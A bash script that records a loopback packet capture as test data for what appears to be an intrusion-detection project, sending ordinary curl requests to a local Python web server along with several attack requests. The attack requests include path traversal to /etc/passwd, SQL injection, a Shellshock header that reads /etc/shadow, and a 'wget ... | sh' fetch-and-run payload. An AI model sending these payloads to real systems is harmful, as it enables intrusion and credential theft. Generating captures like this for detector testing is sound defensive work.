#!/usr/bin/env bash
# Records samples/captures/http-loopback.pcapng: real programs talking on loopback — curl
# against Python's http.server with ordinary and hostile requests, plus a few UDP datagrams.
# Kept for provenance; the committed capture is what the tests and README use.
set -euo pipefail
out=${1:-samples/captures/http-loopback.pcapng}
port=18080
work=$(mktemp -d)
mkdir -p "$work/www/docs" && echo "hello from aznf" > "$work/www/index.html" && echo "manual" > "$work/www/docs/manual.txt"
(cd "$work/www" && exec python3 -m http.server "$port" --bind 127.0.0.1 >/dev/null 2>&1) & server=$!
dumpcap -q -i lo -f "port $port or udp port 15353" -w "$out" & capture=$!
sleep 2
curl -s -o /dev/null "http://127.0.0.1:$port/"
curl -s -o /dev/null "http://127.0.0.1:$port/docs/manual.txt"
curl -s -o /dev/null -A "Mozilla/5.0 (aznf sample)" "http://127.0.0.1:$port/index.html?q=ordinary"
# hostile requests the sample IDS rules catch
curl -s -o /dev/null "http://127.0.0.1:$port/../../etc/passwd" --path-as-is
curl -s -o /dev/null "http://127.0.0.1:$port/search?id=1%20UNION%20SELECT%20password%20FROM%20users"
curl -s -o /dev/null -A "sqlmap/1.7" "http://127.0.0.1:$port/login"
curl -s -o /dev/null "http://127.0.0.1:$port/cgi-bin/test.cgi" -H "X-Probe: () { :; }; /bin/cat /etc/shadow"
curl -s -o /dev/null -X POST --data "cmd=wget http://198.51.100.7/x.sh|sh" "http://127.0.0.1:$port/upload"
python3 - <<'PY'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(("127.0.0.1", 15353))
for q in (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01",
          b"\x12\x35\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x03net\x00\x00\x10\x00\x01"):
    s.sendto(q, ("127.0.0.1", 15353)); data, addr = r.recvfrom(2048); r.sendto(data[:2] + b"\x81\x80" + data[4:], addr)
PY
sleep 1
kill $capture; wait $capture 2>/dev/null || true
kill $server; wait $server 2>/dev/null || true
rm -rf "$work"
echo "wrote $out"
